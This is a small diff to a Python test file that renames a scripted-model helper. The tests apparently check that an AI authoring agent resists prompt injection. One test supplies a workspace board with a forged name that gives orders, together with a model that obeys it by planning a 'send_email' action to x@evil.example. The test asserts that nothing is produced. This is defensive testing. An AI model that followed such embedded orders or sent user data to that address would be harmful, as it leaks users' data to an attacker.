@@ -22,7 +22,7 @@ from tests.kit.author_model import (
     BOARD,
     RESOURCES,
     WORDS,
-    Scripted,
+    ScriptedModel,
     calls,
     desk_for,
     hands_in,
@@ -176,7 +176,7 @@ async def test_the_mark_is_new_for_every_conversation() -> None:
         return hands_in(plain())
 
     for _ in range(2):
-        await generate(desk_for(Scripted(answer)), wish_for(DAILY))
+        await generate(desk_for(ScriptedModel(answer)), wish_for(DAILY))
     assert len(seen) == 2
 
 
@@ -187,7 +187,7 @@ async def test_a_name_that_gives_orders_gets_nothing_done_even_by_a_model_that_o
         "action": "send_email",
         "config": {"to": ["x@evil.example"], "subject": "all", "text": "of it"},
     }
-    model = Scripted(calls("list_resources", kind="boards"), hands_in(plain(plan=[mail])))
+    model = ScriptedModel(calls("list_resources", kind="boards"), hands_in(plain(plan=[mail])))
     hostile = WorkspaceResources(boards=(BoardSummary(BOARD, FORGED),))
     made = await generate(desk_for(model, resources=hostile), wish_for(DAILY))
     assert made.sketch is None
